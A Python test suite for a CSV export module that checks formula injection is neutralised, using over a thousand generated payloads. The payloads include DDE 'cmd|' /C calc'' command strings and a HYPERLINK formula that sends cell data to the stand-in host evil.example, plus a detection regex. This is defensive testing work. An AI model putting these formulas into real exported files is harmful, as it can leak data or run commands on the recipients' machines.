"""CSV that spreadsheets cannot run."""

import csv
import io
import itertools
import json
import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from campaign.delivery import blocks, csv_writing
from campaign.delivery.blocks import Block
from campaign.delivery.csv_writing import defuse

DANGEROUS = re.compile(r"^[\s\0]*[=+\-@\t\r|%＝＋－＠]")

# 25 ways in × 10 formulas × 4 ways on: what a formula can hide behind, what it does, and what follows it.
OPENINGS = ("", " ", "  ", "\t", "\r", "\n", "\r\n", "\0", "\0 ", " \t", "\v", "\f", "\u00a0", "\u2003", "\u3000")
OPENINGS += ("\x1c", "\x85", "\u2028", "yes;", "yes; ", "yes\t", "yes\n", "yes\r\n", "a;b\n ", '";')
OPENINGS += ("\u202e", "\u202d \0", "yes;\u202e", "yes;\0 ")  # what is taken out of a cell leaves no formula behind
FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "|calc",
)
ENDINGS = ("", ",=1", '"', "\n=1")
PAYLOADS = ["".join(parts) for parts in itertools.product(OPENINGS, FORMULAS, ENDINGS)]


def written(*rows: list[str | int]) -> bytes:
    file = io.BytesIO()
    csv_writing.write(file, ["a", "b"], rows)
    return file.getvalue()


def parsed(data: bytes, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def test_there_are_a_thousand_payloads() -> None:
    assert len(set(PAYLOADS)) >= 1000


@pytest.mark.parametrize("column", [0, 1])
def test_no_cell_begins_as_a_formula(column: int) -> None:
    rows: list[list[str | int]] = [[payload, "plain"] if column == 0 else ["plain", payload] for payload in PAYLOADS]
    found = parsed(written(*rows))
    assert len(found) == len(PAYLOADS) + 1
    assert not [row[column] for row in found if DANGEROUS.match(row[column])]


def test_no_cell_begins_as_a_formula_where_spreadsheets_split_at_semicolons() -> None:
    text = written(*[[1, payload] for payload in PAYLOADS]).decode("utf-8-sig")
    cells = re.split(r"[;\t\r\n]", text)
    assert not [cell for cell in cells if re.match(r"^[ \0]*[=+\-@＝＋－＠]", cell)]


@pytest.mark.parametrize(
    "text",
    [
        "Ann-Marie",
        "O’Neill + Sons",
        "me@work",  # in the middle it is harmless
        "100 % agree; not a day longer",
        "",
        "'quoted'",
        "१२३",
        "李小龍",
    ],
)
def test_ordinary_text_stays_as_it_is(text: str) -> None:
    assert defuse(text) == text
    assert parsed(written([1, text]))[1] == ["1", text]


@given(st.text())
def test_whatever_is_typed_comes_back_harmless_and_whole(text: str) -> None:
    once = defuse(text)
    assert not DANGEROUS.match(once)
    assert once.replace("'", "") == text.replace("'", "")


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=2, max_size=2))
def test_every_text_survives_quoting(texts: list[str]) -> None:
    assert parsed(written([*texts]))[1] == [csv_writing.plain(text) for text in texts]


def test_lines_end_as_the_standard_says_and_letters_are_marked_as_utf_8() -> None:
    assert written([1, "Zoë"], [2, 'the "old"\nbridge']) == (
        '\ufeffa,b\r\n1,Zoë\r\n2,"the ""old""\nbridge"\r\n'.encode()
    )


def each_by_itself(rows: list[list[str | int]]) -> bytes:
    """The rule as it stands: cell by cell, whatever stands beside it."""
    text = io.StringIO(newline="")
    safe = [[csv_writing.plain(cell) if isinstance(cell, str) else cell for cell in row] for row in rows]
    csv.writer(text, lineterminator="\r\n").writerows([["a", "b"], *safe])
    return text.getvalue().encode("utf-8-sig")


@pytest.mark.parametrize("column", [0, 1, 2])
def test_many_rows_looked_at_together_are_as_each_by_itself(column: int) -> None:
    ordinary: list[str | int] = [1, "Ann-Marie; O’Neill", "I cross the bridge, every day"]
    assert written(*[ordinary] * 5) == each_by_itself([ordinary] * 5)
    for payload in [*PAYLOADS, "\rback", "a;\rback", "a\r\n\r\nb", "\tled", "a\0b", "a\u202eb"]:
        row = [*ordinary[:column], payload, *ordinary[column + 1 :]]
        assert written(ordinary, row, ordinary) == each_by_itself([ordinary, row, ordinary])


# Mostly what begins something, stands before it or is quoted.
RISKY = st.text(
    st.one_of(
        st.sampled_from("=+-@|%＝＋－＠\t\r\n\0\u202d\u202e\x1f;,\"' \xa0\u2028\x85a"), st.characters(codec="utf-8")
    )
)


@given(st.lists(st.lists(RISKY, min_size=2, max_size=2), max_size=4))
@example([["a\x1fb", "c"], ["", ""]])  # what stands between cells until they are quoted, in one of them
def test_whatever_stands_beside_it_a_cell_is_as_by_itself(rows: list[list[str | int]]) -> None:
    assert written(*rows) == each_by_itself(rows)


@given(st.lists(st.lists(RISKY, min_size=2, max_size=2), min_size=1, max_size=4))
@example([["a, b", ","], ["=1", "x"], ["-", ",,"]])
def test_rows_in_a_block_are_as_row_by_row(rows: list[list[str]]) -> None:
    numbered: list[list[str | int]] = [[number, *row] for number, row in enumerate(rows, 1)]
    block = blocks.of_arrays([json.dumps(row, ensure_ascii=False, separators=(",", ":")).encode() for row in rows])
    files = [io.BytesIO() for _ in range(4)]
    csv_writing.write(files[0], ["n", "a", "b"], numbered)
    assert csv_writing.write_blocks(files[1], ["n", "a", "b"], [block]) == len(rows)
    csv_writing.write_lossless(files[2], ["n", "a", "b"], numbered)
    assert csv_writing.write_blocks_lossless(files[3], ["n", "a", "b"], [block]) == len(rows)
    assert files[0].getvalue() == files[1].getvalue()
    assert files[2].getvalue() == files[3].getvalue()


def test_blocks_go_on_with_the_number_of_the_one_before() -> None:
    file = io.BytesIO()
    csv_writing.write_blocks(file, ["n", "a"], [Block(["Ann", "Zoë"]), Block(["Mia", ""], {1: ["=1"]})], has_mark=False)
    assert file.getvalue().decode() == "n,a\r\n1,Ann\r\n2,Zoë\r\n3,Mia\r\n4,'=1\r\n"


def test_long_lists_lose_no_row() -> None:
    rows: list[list[str | int]] = [[number, "=1" if number == 1500 else "Ann"] for number in range(2001)]
    found = parsed(written(*rows))
    assert [row[0] for row in found[1:]] == [str(number) for number in range(2001)]
    assert [row for row in found if row[1] != "Ann"] == [["a", "b"], ["1500", "'=1"]]
